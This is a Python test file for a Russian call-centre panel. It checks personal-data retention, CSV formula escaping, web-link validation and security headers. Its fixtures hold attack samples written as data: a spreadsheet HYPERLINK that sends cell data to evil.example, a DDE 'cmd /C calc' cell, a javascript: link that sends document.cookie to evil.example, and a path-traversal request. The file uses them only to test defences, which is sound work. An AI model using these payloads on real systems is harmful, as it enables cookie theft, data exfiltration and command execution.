"""Personal data hygiene (issue 25): retention past each period (R-A9, 152-ФЗ) on SQLite and
PostgreSQL, exported CSV cells that never run as formulas, agency links that are only web
links, and the panel's security headers — Content-Security-Policy (checked in Chromium:
a violation is a console error), no-store, nosniff, same-origin referrer, no framing."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta

import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from playwright.async_api import Browser, Page, expect
from sqlalchemy import func, select, update

from ivr.db.models import (
    Agency,
    Appeal,
    AppealStatus,
    AuditEntry,
    Booking,
    BookingStatus,
    Call,
    Callback,
    CallbackAttempt,
    CallbackSource,
    CallbackStatus,
    CallbackWindow,
    CallOutcome,
    Channel,
    Citizen,
    CitizenPhone,
    JournalEntry,
    JournalOutcome,
    Notification,
    Official,
    Quality,
    Rating,
    RatingStatus,
    ReceptionSlot,
    Role,
    Staff,
    SurveyResponse,
    Transfer,
    TransferKind,
)
from ivr.demo import DEMO_PASSWORD, seed_demo
from ivr.hygiene import csv_cell, is_web_link, web_link
from ivr.services import retention
from ivr.services.container import Services
from ivr.settings import Settings
from web.app import init_app

from ..support.browser import console_errors
from ..support.panel_client import log_in
from ..support.records import add_people, services_on
from ..support.smtp import free_port

NOW = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)   # 11:00 in Moscow
TODAY = date(2026, 11, 25)
PHONE = "79001110000"
# Calls kept five years, callbacks three, bookings two, the audit log's numbers one: each
# kind must follow its own setting.
YEARS = {"calls_years": 5, "callbacks_years": 3, "bookings_years": 2, "audit_years": 1}
SECOND = timedelta(seconds=1)


def edge(years: int) -> datetime:
    """The first moment kept: midnight in Moscow, ``years`` before TODAY."""
    return datetime(2026 - years, 11, 24, 21, 0, tzinfo=UTC)


# --- retention ------------------------------------------------------------------------------

async def _citizens(svc: Services) -> dict[str, int]:
    """Three citizens whose records were last changed before every cutoff."""
    old = edge(5) - timedelta(days=30)
    async with svc.sessions() as s, s.begin():
        gone = Citizen(surname="Старова", phones=[CitizenPhone(phone=PHONE)],
                       created_at=old, updated_at=old)
        booked = Citizen(surname="Новикова", phones=[CitizenPhone(phone="79002220000")],
                         created_at=old, updated_at=old)
        fresh = Citizen(surname="Свежева", created_at=old, updated_at=edge(2))
        s.add_all([gone, booked, fresh])
    return {"gone": gone.id, "booked": booked.id, "fresh": fresh.id}


def _entry(call: Call, operator: int, question: str, answer: str | None = None
           ) -> JournalEntry:
    return JournalEntry(call_id=call.id, operator_id=operator, topic="benefits",
                        question=question, answer=answer, outcome=JournalOutcome.ANSWERED)


async def _calls(svc: Services, citizen: int, operator: int) -> dict[str, int]:
    async with svc.sessions() as s, s.begin():
        old = Call(linkedid="old.1", caller_number=PHONE, citizen_id=citizen,
                   started_at=edge(5) - timedelta(minutes=10), ended_at=edge(5) - SECOND,
                   topic="benefits", outcome=CallOutcome.ANSWERED)
        # Started before the cutoff, ended on its first moment: kept (counted from the end).
        long = Call(linkedid="long.1", caller_number="79003330000",
                    started_at=edge(5) - timedelta(minutes=10), ended_at=edge(5))
        s.add_all([old, long])
        await s.flush()
        # R-H6: the journal entries of every operator on the call are cleared alike.
        s.add_all([_entry(old, operator, "Старова: пособие на ребёнка", "Разъяснён порядок"),
                   _entry(long, operator, "Вопрос о субсидии")])
        s.add(Transfer(call_id=old.id, seq=1, kind=TransferKind.PANEL,
                       note="гражданка Старова, 79001110000", requested_at=old.started_at))
    return {"old": old.id, "long": long.id}


async def _callbacks(svc: Services, citizen: int) -> dict[str, int]:
    created = edge(3) - timedelta(days=10)

    def callback(status: CallbackStatus, closed: datetime, **extra: object) -> Callback:
        return Callback(phone=PHONE, source=CallbackSource.OPERATOR, question="О пособии",
                        status=status, created_at=created, updated_at=closed, **extra)

    async with svc.sessions() as s, s.begin():
        old = callback(CallbackStatus.DONE, edge(3) - SECOND, citizen_id=citizen,
                       answer_text="Перезвонили, разъяснили")
        still_open = callback(CallbackStatus.READY, created, question_key="open")
        young = callback(CallbackStatus.CANCELLED, edge(3))
        s.add_all([old, still_open, young])
        await s.flush()
        s.add_all([CallbackWindow(callback_id=old.id, starts_at=created,
                                  ends_at=created + timedelta(hours=2)),
                   CallbackAttempt(callback_id=old.id, started_at=created, outcome="answered")])
    return {"old": old.id, "open": still_open.id, "young": young.id}


async def _bookings(svc: Services, head_id: int, citizens: dict[str, int]) -> dict[str, int]:
    async with svc.sessions() as s, s.begin():
        official = Official(staff_id=head_id, title="Министр", kind="minister")
        s.add(official)
        await s.flush()
        slots = [ReceptionSlot(official_id=official.id, starts_at=at,
                               ends_at=at + timedelta(minutes=30))
                 for at in (edge(2) - SECOND, edge(2))]
        s.add_all(slots)
        await s.flush()
        old = Booking(slot_id=slots[0].id, citizen_id=citizens["gone"], topic="Пособие",
                      status=BookingStatus.ATTENDED, booked_via="panel")
        young = Booking(slot_id=slots[1].id, citizen_id=citizens["booked"], topic="Субсидия",
                        booked_via="hotline")
        s.add_all([old, young])
        await s.flush()
        s.add_all([
            Notification(dedup_key=f"booking:{old.id}:reminder_day:phone", kind="reminder",
                         channel=Channel.PHONE, address=PHONE, citizen_id=citizens["gone"],
                         booking_id=old.id, body="Напоминаем о приёме"),
            SurveyResponse(token_id="reception-1", booking_id=old.id,
                           answers={"quality": "satisfied", "comment": "Спасибо, Старова"})])
    return {"old": old.id, "young": young.id}


async def _audit_entries(svc: Services) -> dict[str, int]:
    """Older than a year, in id order, then one on the cutoff's first moment."""
    at = edge(1) - timedelta(minutes=5)
    rows = {
        "plain": AuditEntry(at=at, action="create", object_type="callback", object_id="17",
                            details=PHONE),
        "card": AuditEntry(at=at, action="view", object_type="citizen_card",
                           object_id=PHONE, details="call hotline-test-1764057600.12"),
        "typed": AuditEntry(at=at, action="view", object_type="call_list",
                            details="caller=+7 (900) 111-00-00&day=2025-11-20"),
        "report": AuditEntry(at=at, action="view", object_type="appeal_report",
                             object_id="2025-01-01..2025-11-20", details="12 обращений"),
        "young": AuditEntry(at=edge(1), action="view", object_type="citizen_card",
                            object_id=PHONE),
    }
    async with svc.sessions() as s, s.begin():
        for entry in rows.values():
            s.add(entry)
            await s.flush()
    return {name: entry.id for name, entry in rows.items()}


async def _retention_entries(svc: Services) -> list[AuditEntry]:
    async with svc.sessions() as s:
        return list((await s.scalars(select(AuditEntry).where(
            AuditEntry.action.in_(("anonymise", "delete", "mask_phones")))
            .order_by(AuditEntry.id))).all())


async def test_retention_anonymises_or_removes_exactly_what_is_past_each_period(
    settings: Settings, db_url: str
) -> None:
    """152-ФЗ art. 5 p. 7, R-A9: the day before each cutoff goes, its first moment stays;
    every batch is in the audit log as a count, with no personal data in it."""
    svc = services_on(settings, db_url, NOW, retention=YEARS)
    try:
        people = await add_people(svc)
        citizens = await _citizens(svc)
        calls = await _calls(svc, citizens["gone"], people.executor.id)
        callbacks = await _callbacks(svc, citizens["gone"])
        bookings = await _bookings(svc, people.head.id, citizens)
        entries = await _audit_entries(svc)

        report = await retention.apply_retention(svc.sessions, svc.settings, TODAY, NOW)
        assert (report.calls, report.callbacks, report.bookings, report.audit_entries,
                report.citizens) == (1, 1, 1, 3, 1)

        await _assert_calls(svc, calls)
        await _assert_callbacks_and_bookings(svc, callbacks, bookings)
        await _assert_citizens_and_audit(svc, citizens, entries)

        logged = await _retention_entries(svc)
        assert {(e.action, e.object_type) for e in logged} == {
            ("anonymise", "call"), ("delete", "callback"), ("delete", "booking"),
            ("mask_phones", "audit_log"), ("delete", "citizen")}
        assert all(e.staff_id is None and e.at == NOW for e in logged)
        assert any("звонков: 1" in e.details for e in logged)
        assert not any(PHONE in e.details or "Старова" in e.details for e in logged)

        again = await retention.apply_retention(svc.sessions, svc.settings, TODAY, NOW)
        assert not again.changed, "a second run finds nothing left to do"
        assert len(await _retention_entries(svc)) == len(logged)
    finally:
        await svc.close()


async def _assert_calls(svc: Services, calls: dict[str, int]) -> None:
    async with svc.sessions() as s:
        old = await s.get(Call, calls["old"])
        long = await s.get(Call, calls["long"])
        notes = set(await s.scalars(select(Transfer.note)))
        long_question = await s.scalar(select(JournalEntry.question).where(
            JournalEntry.call_id == calls["long"]))
        old_entry = (await s.execute(select(JournalEntry.question, JournalEntry.answer,
                                            JournalEntry.topic).where(
            JournalEntry.call_id == calls["old"]))).one()
    assert old is not None and long is not None
    assert (old.caller_number, old.citizen_id) == ("", None)
    assert tuple(old_entry) == (None, None, "benefits"), "the text goes, the topic stays"
    assert (old.topic, old.outcome) == ("benefits", CallOutcome.ANSWERED), "statistics stay"
    assert notes == {""}
    assert long.caller_number == "79003330000"
    assert long_question == "Вопрос о субсидии"


async def _assert_callbacks_and_bookings(svc: Services, callbacks: dict[str, int],
                                         bookings: dict[str, int]) -> None:
    async with svc.sessions() as s:
        left = set(await s.scalars(select(Callback.id)))
        windows = await s.scalar(select(func.count()).select_from(CallbackWindow))
        attempts = await s.scalar(select(func.count()).select_from(CallbackAttempt))
        booked = set(await s.scalars(select(Booking.id)))
        reminders = await s.scalar(select(func.count()).select_from(Notification))
        survey = await s.scalar(select(SurveyResponse))
    assert left == {callbacks["open"], callbacks["young"]}, "open callbacks always stay"
    assert (windows, attempts) == (0, 0)
    assert booked == {bookings["young"]}
    assert reminders == 0
    assert survey is not None and survey.booking_id is None
    assert survey.answers == {"quality": "satisfied", "comment": ""}


async def _assert_citizens_and_audit(svc: Services, citizens: dict[str, int],
                                     entries: dict[str, int]) -> None:
    async with svc.sessions() as s:
        left = set(await s.scalars(select(Citizen.id)))
        phones = set(await s.scalars(select(CitizenPhone.phone)))
        rows = {e.id: e for e in (await s.scalars(select(AuditEntry))).all()}
    assert {citizens["booked"], citizens["fresh"]} <= left and citizens["gone"] not in left
    assert PHONE not in phones
    texts = {name: (rows[i].object_id, rows[i].details) for name, i in entries.items()}
    assert texts == {
        "plain": ("17", "***"),
        "card": ("***", "call hotline-test-1764057600.12"),
        "typed": ("", "caller=***&day=2025-11-20"),
        "report": ("2025-01-01..2025-11-20", "12 обращений"),
        "young": (PHONE, ""),
    }


async def _appeal(svc: Services, number: str, status: AppealStatus, answered: datetime | None
                  ) -> int:
    async with svc.sessions() as s, s.begin():
        appeal = Appeal(reg_number=number, registered_on=date(2020, 3, 2), channel=Channel.POST,
                        status=status, answered_at=answered, text="Текст обращения")
        s.add(appeal)
    return appeal.id


async def test_appeals_counted_from_completion_and_never_while_open(
    settings: Settings, db_url: str
) -> None:
    """R-A9 with ``appeals.retention_from = "completion"``: five years from the answer; an
    appeal still in work stays whatever its age."""
    svc = services_on(settings, db_url, NOW, appeals={"retention_from": "completion"})
    try:
        await _appeal(svc, "7001", AppealStatus.ANSWERED, edge(5) - SECOND)
        kept = await _appeal(svc, "7002", AppealStatus.ANSWERED, edge(5))
        open_ = await _appeal(svc, "7003", AppealStatus.IN_WORK, None)
        result = await retention.purge_expired(svc.sessions, svc.settings, TODAY, NOW)
        assert result.appeals == 1
        async with svc.sessions() as s:
            assert set(await s.scalars(select(Appeal.id))) == {kept, open_}
            [entry] = (await s.scalars(select(AuditEntry))).all()
        assert (entry.action, entry.object_type) == ("delete", "appeal")
        assert "обращений: 1" in entry.details
    finally:
        await svc.close()
    by_registration = services_on(settings, db_url, NOW)
    try:
        result = await retention.purge_expired(by_registration.sessions,
                                               by_registration.settings, TODAY, NOW)
        assert result.appeals == 1, "registered in 2020: only the closed one goes"
        async with by_registration.sessions() as s:
            assert set(await s.scalars(select(Appeal.id))) == {open_}
    finally:
        await by_registration.close()


def test_formula_cells_and_links() -> None:
    assert [csv_cell(v) for v in ("=1+1", "+7900", "-2", "@SUM(A1)", "\t=1", "\r=1",
                                  "Пособие", 5, -5)] == [
        "'=1+1", "'+7900", "'-2", "'@SUM(A1)", "'\t=1", "'\r=1", "Пособие", 5, -5]
    assert web_link(" sfr.gov.ru ") == "https://sfr.gov.ru"
    assert web_link("http://госуслуги.рф/help") == "http://госуслуги.рф/help"
    for bad in ("javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>",
                "//evil.example", "https://", "http://a b.ru", "vbscript:x"):
        assert not is_web_link(bad)
        with pytest.raises(ValueError, match="http:// или https://"):
            web_link(bad)


# --- the panel over HTTP --------------------------------------------------------------------

@pytest_asyncio.fixture
async def demo(settings: Settings, sqlite_url: str) -> AsyncIterator[Services]:
    services = services_on(settings, sqlite_url, NOW)
    await seed_demo(services.settings, today=NOW.date())
    yield services
    await services.close()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")'


async def _low_rated_call(svc: Services) -> None:
    async with svc.sessions() as s, s.begin():
        call = Call(linkedid="csv.1", caller_number="79004440000",
                    started_at=NOW - timedelta(hours=1), ended_at=NOW - timedelta(minutes=50),
                    outcome=CallOutcome.ANSWERED)
        s.add(call)
        await s.flush()
        operator = await s.scalar(select(Staff.id).where(Staff.role == Role.OPERATOR).limit(1))
        assert operator is not None
        s.add(JournalEntry(call_id=call.id, operator_id=operator, topic="-1+1",
                           question=FORMULA, outcome=JournalOutcome.ANSWERED))
        s.add(Rating(call_id=call.id, answer_received=False, quality=Quality.NOT_SATISFIED,
                     status=RatingStatus.COMPLETE, rated_at=NOW - timedelta(minutes=49)))
        await s.execute(update(Appeal).where(Appeal.reg_number == "1024")
                        .values(topic="@SUM(1+1)*cmd|' /C calc'!A0"))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


async def test_exported_csv_cells_never_start_a_formula(demo: Services) -> None:
    """The supervisor's export and a citizen's appeals (R-A9) as CSV: a cell typed as a
    formula reaches the spreadsheet as text."""
    await _low_rated_call(demo)
    async with TestClient(TestServer(init_app(demo))) as client:
        await log_in(client, "smirnova")
        resp = await client.get("/panel/supervisor/export/low?period=today")
        assert resp.status == 200, await resp.text()
        [_, row] = _cells(await resp.text())
        assert row[2:4] == ["'-1+1", "'" + FORMULA]
        async with demo.sessions() as s:
            citizen = await s.scalar(select(Appeal.citizen_id).where(Appeal.reg_number == "1024"))
        resp = await client.get(f"/panel/citizens/{citizen}/history?format=csv")
        assert resp.status == 200, await resp.text()
        rows = {r[0]: r for r in _cells(await resp.text())}
        assert rows["1024"][2] == "'@SUM(1+1)*cmd|' /C calc'!A0"


async def test_agency_links_are_web_links_only(demo: Services) -> None:
    """A javascript: site is refused on save with a Russian message; one already in the
    database is shown as text, never as a link."""
    async with demo.sessions() as s, s.begin():
        s.add(Agency(name="Старое ведомство", phone="84950000000",
                     website="javascript:alert(document.cookie)"))
    async with TestClient(TestServer(init_app(demo))) as client:
        csrf = await log_in(client, "kuznetsov")
        resp = await client.post("/panel/kb/agencies", data={
            "_csrf": csrf, "name": "Ведомство со ссылкой", "phone": "84951234567",
            "website": "javascript:fetch('//evil.example/'+document.cookie)"})
        page = await resp.text()
        assert resp.status == 400
        assert "Адрес сайта должен быть веб-адресом" in page
        resp = await client.post("/panel/kb/agencies", data={
            "_csrf": csrf, "name": "Социальный фонд", "website": "sfr.gov.ru"})
        assert resp.status == 200   # after the redirect to the directory
        page = await resp.text()
    async with demo.sessions() as s:
        names = set(await s.scalars(select(Agency.name)))
    assert "Ведомство со ссылкой" not in names and "Социальный фонд" in names
    assert 'href="https://sfr.gov.ru"' in page
    assert "javascript:alert(document.cookie)" in page, "shown as text"
    assert not re.search(r'href="\s*javascript:', page, re.IGNORECASE)


async def test_every_response_carries_the_security_headers(demo: Services) -> None:
    async with TestClient(TestServer(init_app(demo))) as client:
        login = await client.get("/login")
        redirect = await client.get("/panel/kb", allow_redirects=False)
        await log_in(client, "smirnova")
        pages = [await client.get(path) for path in (
            "/panel/kb", "/panel/supervisor", "/panel/no-such-page", "/api/v1/calls",
            "/survey/forged-token", "/reception/cancel/forged-token")]
        live = await client.get("/panel/live")   # streamed: an employee without a phone
        css = await client.get("/static/panel.css")
        traversal = await client.get("/static/..%2Fapp.py")
    for resp in [login, *pages, live]:
        headers = resp.headers
        assert headers["Cache-Control"] == "no-store", resp.url
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"
        assert headers["X-Frame-Options"] == "DENY"
        policy = headers["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "frame-ancestors 'none'" in policy
        assert "unsafe-inline" not in policy
    assert live.headers["Content-Type"] == "text/event-stream"
    assert [p.status for p in pages] == [200, 200, 404, 401, 404, 404]
    assert redirect.status == 303 and "Content-Security-Policy" in redirect.headers
    assert css.status == 200 and css.content_type == "text/css"
    assert "no-store" not in css.headers.get("Cache-Control", "")
    assert traversal.status == 404


# --- the panel in Chromium, under its policy ------------------------------------------------

@pytest_asyncio.fixture
async def panel(demo: Services) -> AsyncIterator[str]:
    runner = web.AppRunner(init_app(demo))
    await runner.setup()
    port = free_port()
    await web.TCPSite(runner, "127.0.0.1", port).start()
    yield f"http://127.0.0.1:{port}"
    await runner.cleanup()


async def _logged_in(browser: Browser, base: str, login: str, path: str,
                     problems: list[list[str]]) -> Page:
    page = await (await browser.new_context()).new_page()
    problems.append(console_errors(page))
    await page.goto(f"{base}{path}")
    await page.fill("input[name=login]", login)
    await page.fill("input[name=password]", DEMO_PASSWORD)
    await page.click("button[type=submit]")
    await expect(page).to_have_url(re.compile(re.escape(path) + "$"))
    return page


async def test_pages_work_under_the_content_security_policy(panel: str, demo: Services,
                                                            browser: Browser) -> None:
    """The stylesheet loads, the workspace's nonce'd script runs, the print button is wired;
    Chromium reports no refused script, style or frame (a violation is a console error)."""
    problems: list[list[str]] = []
    page = await _logged_in(browser, panel, "ivanova", "/panel/workspace", problems)
    await expect(page.locator("h1")).to_contain_text("Рабочее место оператора")
    # The seat's one-screen layout (issue 29) comes from the stylesheet alone.
    layout = await page.evaluate("getComputedStyle(document.querySelector('.seat-bar')).display")
    assert layout == "flex", "the stylesheet from /static/ applies"
    await page.fill("#kb-search input[name=q]", "компенсация")
    await page.click("#kb-search button")
    await expect(page.locator("#kb-results li").first).to_contain_text("компенсацию")

    async with demo.sessions() as s:
        citizen = await s.scalar(select(Appeal.citizen_id).where(Appeal.reg_number == "1024"))
    path = f"/panel/citizens/{citizen}/history"
    page = await _logged_in(browser, panel, "smirnova", path, problems)
    await page.evaluate("window.print = () => { document.title = 'printed'; }")
    await page.click("#print")
    await expect(page).to_have_title("printed")
    for path, heading in (("/panel/kb/agencies", "Справочник ведомств"),
                          ("/panel/supervisor", "Руководитель контакт-центра")):
        await page.goto(f"{panel}{path}")
        await expect(page.locator("h1")).to_have_text(heading)
    assert problems == [[], []]
